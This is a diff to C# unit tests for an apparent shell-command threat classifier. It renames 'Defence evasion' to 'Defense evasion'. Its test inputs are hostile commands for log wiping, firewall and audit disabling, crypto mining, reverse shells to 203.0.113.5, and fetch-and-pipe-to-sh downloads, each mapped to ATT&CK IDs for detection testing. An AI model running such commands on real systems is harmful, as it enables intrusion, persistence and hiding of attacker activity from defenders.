@@ -57,19 +57,19 @@ namespace B64Hunt.Tests.Classification
         [InlineData("/tmp/.k/kthreaddk -B -o stratum+tcp://198.51.100.9:45700 -u wallet", "Crypto mining", "T1496")]
         [InlineData("./cpuminer -a cryptonight -o xmr.pool.example:14444", "Crypto mining", "T1496")]
         // defence evasion
-        [InlineData("history -c; rm -f ~/.bash_history", "Defence evasion", "T1070.003")]
-        [InlineData("unset HISTFILE; export HISTSIZE=0", "Defence evasion", "T1562.003")]
-        [InlineData("export HISTFILE=/dev/null", "Defence evasion", "T1562.003")]
-        [InlineData("iptables -F; iptables -X", "Defence evasion", "T1562.004")]
-        [InlineData("ufw disable", "Defence evasion", "T1562.004")]
-        [InlineData("setenforce 0", "Defence evasion", "T1562.001")]
-        [InlineData("systemctl stop auditd; systemctl disable auditd", "Defence evasion", "T1562.001")]
-        [InlineData("pkill -f aliyun-service", "Defence evasion", "T1562.001")]
-        [InlineData("chattr +i /etc/ld.so.preload", "Defence evasion", "T1222.002")]
-        [InlineData("cat /dev/null > /var/log/auth.log; > /var/log/wtmp", "Defence evasion", "T1070.002")]
-        [InlineData("shred -u /var/log/secure", "Defence evasion", "T1070.002")]
-        [InlineData("touch -r /bin/ls /tmp/.x/run", "Defence evasion", "T1070.006")]
-        [InlineData("echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | sh", "Defence evasion", "T1140")]
+        [InlineData("history -c; rm -f ~/.bash_history", "Defense evasion", "T1070.003")]
+        [InlineData("unset HISTFILE; export HISTSIZE=0", "Defense evasion", "T1562.003")]
+        [InlineData("export HISTFILE=/dev/null", "Defense evasion", "T1562.003")]
+        [InlineData("iptables -F; iptables -X", "Defense evasion", "T1562.004")]
+        [InlineData("ufw disable", "Defense evasion", "T1562.004")]
+        [InlineData("setenforce 0", "Defense evasion", "T1562.001")]
+        [InlineData("systemctl stop auditd; systemctl disable auditd", "Defense evasion", "T1562.001")]
+        [InlineData("pkill -f aliyun-service", "Defense evasion", "T1562.001")]
+        [InlineData("chattr +i /etc/ld.so.preload", "Defense evasion", "T1222.002")]
+        [InlineData("cat /dev/null > /var/log/auth.log; > /var/log/wtmp", "Defense evasion", "T1070.002")]
+        [InlineData("shred -u /var/log/secure", "Defense evasion", "T1070.002")]
+        [InlineData("touch -r /bin/ls /tmp/.x/run", "Defense evasion", "T1070.006")]
+        [InlineData("echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | sh", "Defense evasion", "T1140")]
         // privilege escalation
         [InlineData("sudo -n /bin/bash -p", "Privilege escalation", "T1548.003")]
         [InlineData("chmod u+s /tmp/.b", "Privilege escalation", "T1548.001")]
@@ -134,7 +134,7 @@ namespace B64Hunt.Tests.Classification
             Assert.DoesNotContain("Execution of downloaded code", match.Categories);
             Assert.DoesNotContain("Persistence", match.Categories);
             Assert.DoesNotContain("Credential access", match.Categories.Where(_ => !command.Contains("bash_history")));
-            Assert.DoesNotContain("Defence evasion", match.Categories);
+            Assert.DoesNotContain("Defense evasion", match.Categories);
             Assert.DoesNotContain("Reverse shell", match.Categories);
         }
 
@@ -145,7 +145,7 @@ namespace B64Hunt.Tests.Classification
             Assert.Contains("File/Process deletion/killing", Classify("python -c 'import os;os.system(\"rm -rf /var/tmp/x\")'").Categories);
             Assert.Contains("Reverse shell", Classify("perl -e 'system(\"nc -e /bin/sh 203.0.113.5 80\")'").Categories);
             Assert.Contains("Execution of downloaded code", Classify("echo '* * * * * wget -q -O- http://x/p | sh' | crontab -").Categories);
-            Assert.Contains("Defence evasion", Classify("find /var/log -type f -exec rm -f {} \\;").Categories);
+            Assert.Contains("Defense evasion", Classify("find /var/log -type f -exec rm -f {} \\;").Categories);
             Assert.Contains("Reverse shell", Classify("printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"\\n' > /etc/systemd/system/x.service").Categories);
             Assert.Contains("Execution of downloaded code", Classify("bash <<EOF\ncurl -s http://x | sh\nEOF").Categories);
         }
